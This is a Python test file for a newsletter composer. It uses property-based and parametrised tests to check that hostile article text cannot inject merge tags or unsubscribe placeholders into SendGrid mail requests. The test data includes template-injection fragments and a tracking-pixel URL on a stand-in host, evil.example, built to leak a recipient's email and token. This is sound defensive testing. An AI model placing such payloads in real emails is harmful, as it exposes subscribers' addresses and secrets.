"""Whatever articles say: the requests ask for what template, subject and intro ask for, and for nothing else."""

import json
import re
from collections.abc import Mapping
from dataclasses import dataclass, fields, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, get_type_hints

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from newsletter import merge
from newsletter.composer.compose import compose
from newsletter.composer.tokens import Placeholders
from newsletter.config import Config
from newsletter.models import Article, Outline, OutlineEntry
from newsletter.providers.sendgrid import TRAITS
from newsletter.providers.sendgrid.payload import MailRequests
from newsletter.sender.envelope import envelope
from newsletter.sender.recipients import Recipient
from newsletter.settings import ComposeSettings, SendSettings, Unsubscribe
from tests.composer.samples import article, composed, config, outline
from tests.sender.conftest import make_issue

PIECES = (
    *("<!--", "-->", "<!--<style>-->", "<!--</style>-->", "<style>", "</style>", "<STYLE type='x'>", "</script>"),
    *("<script>", "<!--[if mso]>", "<![endif]-->", "<!--[if !mso]><!-->", "<![CDATA[", "]]>", "<?x?>", "--!>"),
    *("%%html:email%%", "%%text:email%%", "%%html:first_name%%", "%%unsubscribe%%", "%%html:unsubscribe%%"),
    *("<%asm_group_unsubscribe_raw_url%>", "<%asm_preferences_raw_url%>", "{{ merge.email }}", "{{{email}}}"),
    *("merge-0123456789abcdef01234567-0-end", "-first_name-", "[unsubscribe]", "%%", "%", "<", ">", "{", "}", "{%"),
    *("&", "&{x}", "&#37;&#37;html:email%%", "&lt;%", "%\x00%html:email%\x00%", "%\u2060%html:email%\u2060%"),
    *("%\u200b%", "{\u202e{ merge.email }}", "<\u00ad%", "\ue000", "\ufdd0", "%\n%html:email%\n%", '"', "'", '">'),
    *("<b>%</b>%html:email%%", "{{< x >}}", "%{{% x %}}%html:email%%", "%25%25html:email%25%25", "words and words "),
)
ORDINARY = ("", "https://cdn.example.org/a.jpg?", "https://review.example.org/", "<p>", "Words. ")
HOSTILE = st.builds(
    "".join, st.tuples(st.sampled_from(ORDINARY), st.builds("".join, st.lists(st.sampled_from(PIECES), max_size=6)))
)
WAYS = (
    Unsubscribe(),
    Unsubscribe(mode="group", group_id=7),
    Unsubscribe(mode="url", url="https://review.example.org/u?t={token}"),
)
ANN = Recipient("ann@example.org", {"first_name": "Ann", "token": "SECRET"}, 2)
KINDS = get_type_hints(Article)
TEXTS = {field.name for field in fields(Article) if KINDS[field.name] in (str, tuple[str, ...])}


def hostile_article(number: int) -> st.SearchStrategy[Article]:
    """Make an article that is hostile in every field that holds text, whatever fields there are."""
    kinds: dict[Any, st.SearchStrategy[Any]] = {
        str: HOSTILE,
        tuple[str, ...]: st.lists(HOSTILE, max_size=2).map(tuple),
        KINDS["body_format"]: st.sampled_from(["html", "markdown"]),
    }
    changes = {name: kinds[kind] for name, kind in KINDS.items() if kind in kinds and name not in ("key", "path")}
    keys = HOSTILE.map(lambda text: f"{number}{text}")
    return st.builds(lambda **fields: article(number, **fields), key=keys, path=keys, **changes)


@st.composite
def issues(draw: st.DrawFn) -> tuple[Config, Outline, list[Article]]:
    """Make hostile articles, one of them with hostile words in issue.toml, in one of the ways to compose them."""
    articles = [draw(hostile_article(number)) for number in range(1, draw(st.integers(2, 4)))]
    made = config(
        compose=ComposeSettings(
            template=draw(st.sampled_from(["digest", "magazine", "wire", "letter", "compact"])),
            body=draw(st.sampled_from(["summary", "full"])),
            qr=draw(st.sampled_from(["off", "link"])),
            subject="{headline}{headline} for {{ merge.first_name }}",
            intro=draw(st.sampled_from(["Dear {{ merge.first_name }}", "{headline}{headline}{{ merge.first_name }}"])),
        ),
        send=SendSettings(from_="Review <review@example.org>", unsubscribe=draw(st.sampled_from(WAYS))),
    )
    page = outline(*articles, settings=made)
    edited = OutlineEntry(key=articles[0].key, title=draw(HOSTILE), summary=draw(HOSTILE))
    return made, replace(page, entries=(edited, *page.entries[1:])), articles


@settings(
    max_examples=60, deadline=None, phases=[Phase.explicit, Phase.generate], suppress_health_check=list(HealthCheck)
)
@given(issues())
def test_requests_hold_what_was_asked_for_and_nothing_else(made: tuple[Config, Outline, list[Article]]) -> None:
    """Substitutions and unsubscribe addresses are those of template, subject and intro; no attribute holds < or >."""
    settings, page, articles = made
    composition = compose(page, {one.key: one for one in articles}, settings, offline=True)
    message, own_way = composition.message, settings.send.unsubscribe.mode == "url"
    issue = replace(make_issue(Path("/nonexistent")), message=message)
    request = MailRequests(envelope(issue, settings)).build([ANN], batch=1)
    person = json.loads(request.body)["personalizations"][0]
    wanted = {"%%html:first_name%%", "%%text:first_name%%"} | (
        {*merge.unsubscribe_tokens(WAYS[2], TRAITS.tags)} if own_way else set()
    )
    assert set(person["substitutions"]) == wanted
    in_html, in_text = merge.unsubscribe_tokens(settings.send.unsubscribe, TRAITS.tags)
    assert message.html.count(f'href="{in_html}"') == message.html.count(in_html) == 1
    assert message.text.count(in_text) == 1
    for part in (message.subject, message.html, message.text):
        for tag in (*wanted, in_html, in_text):
            part = part.replace(tag, "")
        assert not re.search(r"%%|<%|&lt;%|\{\{|\{%", part)
    assert message.subject.count("%%text:first_name%%") == 1
    assert Attributes(message.html.replace(in_html, "")).strange == []
    assert not [found for found in composition.findings if found.code in ("leftover-tag", "cid-missing")]


class Attributes(HTMLParser):
    """Collect the start tags of a page that hold ``<`` or ``>`` between their own."""

    def __init__(self, page: str) -> None:
        """Read `page`."""
        super().__init__()
        self.strange: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look into one."""
        text = self.get_starttag_text() or ""
        if set(text[1:-1]) & set("<>"):
            self.strange.append(text)


LEAK = "https://evil.example/p.gif?e=%%html:email%%&t=%%html:token%%"
OPENINGS = (
    ("<!--<style>-->", "<!--</style>-->"),
    ("<style>", "</style>"),
    ("<!--<script>-->", "<!--</script>-->"),
    ("&{<style>};", "&{</style>};"),
    ('<!--"><style>-->', '<!--"></style>-->'),
    ("<!--[if mso]><style>", "</style><![endif]-->"),
)


@pytest.mark.parametrize("template", ["digest", "compact"])
@pytest.mark.parametrize("body", ["summary", "full"])
@pytest.mark.parametrize("titles", OPENINGS, ids=range(len(OPENINGS)))
def test_titles_cannot_open_what_holds_live_tokens(titles: tuple[str, str], body: Any, template: str) -> None:
    """Two stories cannot put a third one's picture and link between marks that nobody neutralises in."""
    stories = [
        article(1, title=f"{titles[0]} Rates rise", source=titles[0]),
        article(2, banner=LEAK, link=LEAK, body=f'<p><img src="{LEAK}" alt="{titles[0]}"><a href="{LEAK}">x</a></p>'),
        article(3, title=f"{titles[1]} Rates fall", source=titles[1]),
    ]
    made = config(compose=ComposeSettings(template=template, body=body))
    message = composed(*stories, settings=made).message
    assert merge.find(message.subject, message.html, message.text) == ()
    assert Attributes(message.html).strange == []


HOPES = ("%{%%}%html:email%%", "{{ merge.email }} {", "{ merge.email }} x {", "{\x01{ merge.email }}", "{", "{ merge.x")


@pytest.mark.parametrize("title", HOPES)
@pytest.mark.parametrize("pattern", ["{headline}", "{headline}{headline}", "{name}: {headline}{headline}"])
def test_a_headline_in_the_issues_own_texts_is_no_merge_field(title: str, pattern: str) -> None:
    """Nor is it taken for a mistyped one: no headline can stop an issue."""
    texts = ComposeSettings(subject=pattern, preheader=pattern, intro=pattern)
    composition = composed(article(1, title=title), settings=config(compose=texts))
    message = composition.message
    assert merge.find(message.subject, message.html, message.text) == ()
    assert not [found for found in composition.findings if found.code == "leftover-tag"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Person:
    """Somebody whom an article names."""

    name: str


@dataclass(frozen=True, slots=True, kw_only=True)
class SignedArticle(Article):
    """What an article may be some day."""

    author: str = ""
    people: tuple[Person, ...] = ()
    extra: Mapping[str, Any] | None = None


def signed(**changes: Any) -> SignedArticle:
    """Make an article with further fields."""
    base = article(1)
    return SignedArticle(**{field.name: getattr(base, field.name) for field in fields(Article)}, **changes)


def forged(text: str) -> tuple[SignedArticle, ...]:
    """Put a text into each further field."""
    nested = {"a": ({"b": [text]},)}
    people = (Person(name="Ann"), Person(name=text))
    return (signed(author=text), signed(people=people), signed(extra={text: 1}), signed(extra=nested))


@pytest.mark.parametrize("index", range(4))
def test_no_field_of_an_article_can_name_a_placeholder(index: int) -> None:
    """Who knows the rest of the issue knows its placeholders, but not those of the issue with his own text in it."""
    known = Placeholders(outline(), {"1": forged("")[index]}).fields["email"]
    placeholders = Placeholders(outline(), {"1": forged(known)[index]})
    assert placeholders.fields["email"] != known
    assert placeholders.finish_text(known, "%%unsubscribe%%") == known


@pytest.mark.parametrize("name", sorted(TEXTS))
def test_every_text_of_an_article_counts(name: str) -> None:
    """Each field that holds text changes the placeholders, whichever fields there are."""
    value: Any = ("x",) if KINDS[name] == tuple[str, ...] else "x"
    one, other = Placeholders([article(1)]), Placeholders([replace(article(1), **{name: value})])
    assert one.unsubscribe_link != other.unsubscribe_link


def test_only_a_template_asks() -> None:
    """A placeholder that nobody asked for stays what it is, also where it begins like one that was."""
    placeholders = Placeholders("x")
    asked = placeholders.fields["first_name"]
    guess = asked.replace("-0-end", "-1-end")
    assert placeholders.finish_text(f"{asked} {guess}", "%%unsubscribe%%") == f"%%text:first_name%% {guess}"
